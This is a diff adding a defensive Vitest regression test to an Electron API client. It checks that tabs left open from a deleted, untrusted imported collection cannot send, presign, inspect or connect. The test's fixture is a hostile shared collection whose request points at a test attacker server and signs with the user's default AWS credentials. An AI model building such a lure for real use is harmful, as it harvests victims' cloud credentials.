@@ -1,0 +1,129 @@
+import { join } from 'node:path';
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { createCore, type Core } from '../../electron/core/create-core';
+import { createDispatcher, type CallContext } from '../../electron/ipc/dispatcher';
+import { createHandlers } from '../../electron/ipc/handlers';
+import { createMemorySecretValueStore } from '../../electron/core/variables/secret-value-store';
+import { makeTempDir } from '../support/temp-dir';
+import { startAttacker, type Attacker } from '../support/attacker-server';
+
+// The user's identity, found by the default chain on this machine.
+const USER_KEYS = { accessKeyId: 'AKIAUSERIDENTITY0003', secretAccessKey: 'userSecret/1111111111111111111111111111' };
+
+const context: CallContext = { emit: () => undefined };
+type Answer = { ok: boolean; value?: unknown; error?: { code: string; message: string } };
+let attacker: Attacker;
+let home: ReturnType<typeof makeTempDir>;
+let core: Core;
+let call: (channel: string, input: unknown) => Promise<Answer>;
+
+beforeAll(async () => {
+  attacker = await startAttacker();
+});
+afterAll(async () => {
+  await attacker.close();
+});
+beforeEach(() => {
+  home = makeTempDir('shomei-deleted-tab-');
+  core = createCore({
+    host: 'test',
+    version: '0.0.0-test',
+    dataDir: join(home.dir, 'data'),
+    workingDirectory: home.dir,
+    env: { AWS_ACCESS_KEY_ID: USER_KEYS.accessKeyId, AWS_SECRET_ACCESS_KEY: USER_KEYS.secretAccessKey },
+    secrets: createMemorySecretValueStore(),
+  });
+  const dispatcher = createDispatcher(createHandlers(core));
+  call = (channel, input) => dispatcher.dispatch(channel, input, context) as Promise<Answer>;
+  attacker.received.length = 0;
+});
+afterEach(async () => {
+  await core.close();
+  home.remove();
+});
+
+/** A shared Shomei file whose one request signs with the user's default chain, and reads a file. */
+function hostileFile(): string {
+  return JSON.stringify({
+    format: 'shomei.collection',
+    formatVersion: 1,
+    collection: {
+      id: 'handy-api',
+      name: 'Handy API',
+      items: [
+        {
+          kind: 'request',
+          id: 'ping',
+          name: 'Ping',
+          method: 'GET',
+          url: `${attacker.origin}/ping`,
+          auth: {
+            type: 'aws-sigv4',
+            credentialSource: { source: 'default-chain' },
+            region: 'us-east-1',
+            service: 'execute-api',
+            isQuerySigned: false,
+            expiresInSeconds: 900,
+          },
+        },
+      ],
+    },
+  });
+}
+
+// Not covered elsewhere: every other test sends an untrusted request while its collection exists.
+// The editor keeps a tab (and main keeps it across restarts) after its collection is deleted; its
+// draft still says what the file said, and it still names the deleted savedRequestId. Main sent
+// such a draft "on its own", as if the user had written it: deleting a suspicious collection
+// turned its open tabs into trusted requests, signed with the user's keys.
+describe('a tab of an untrusted request whose collection was deleted', () => {
+  it('is not sent, presigned, inspected, connected or signed in with, and says why', async () => {
+    const imported = await call('import:run', { text: hostileFile() });
+    const collectionId = (imported.value as { collectionId: string }).collectionId;
+    const [item] = core.collections.getCollection(collectionId).items;
+    if (item?.kind !== 'request') throw new Error('expected one request');
+    const { kind: _kind, id: savedRequestId, ...request } = item;
+    const input = { request, savedRequestId };
+    expect(await call('request:send-draft', { requestId: 'r-0', ...input })).toMatchObject({
+      ok: false,
+      error: { code: 'UNTRUSTED' },
+    });
+    expect(await call('collections:delete', { id: collectionId })).toMatchObject({ ok: true });
+
+    const answers = [
+      await call('request:send-draft', { requestId: 'r-1', ...input }),
+      await call('request:presign-draft', input),
+      await call('request:inspect-draft', input),
+      await call('websocket:connect', {
+        connectionId: 'c-1',
+        ...input,
+        request: { ...request, url: attacker.origin.replace(/^http/, 'ws'), websocket: { messages: [] } },
+      }),
+    ];
+    for (const answer of answers) {
+      expect(answer).toMatchObject({ ok: false, error: { code: 'NOT_FOUND' } });
+      expect(answer.error?.message).toMatch(/^Not (sent|signed|connected): the saved request this tab was opened from was deleted/);
+    }
+    expect(JSON.stringify(answers)).not.toMatch(/X-Amz-Signature|Signature=|AKIAUSER/);
+    expect(await call('request:identity-draft', input)).toMatchObject({
+      ok: true,
+      value: { state: 'blocked', code: 'NOT_FOUND' },
+    });
+    expect(attacker.received).toHaveLength(0);
+  });
+
+  it('is sent again once the delete is undone, and refused as untrusted as before', async () => {
+    const imported = await call('import:run', { text: hostileFile() });
+    const collectionId = (imported.value as { collectionId: string }).collectionId;
+    const deleted = await call('collections:delete', { id: collectionId });
+    await call('collections:undo', { undoToken: (deleted.value as { undoToken: string }).undoToken });
+    const [item] = core.collections.getCollection(collectionId).items;
+    if (item?.kind !== 'request') throw new Error('expected one request');
+    const { kind: _kind, id: savedRequestId, ...request } = item;
+    expect(await call('request:send-draft', { requestId: 'r-2', request, savedRequestId })).toMatchObject({
+      ok: false,
+      error: { code: 'UNTRUSTED' },
+    });
+    expect(attacker.received).toHaveLength(0);
+  });
+});
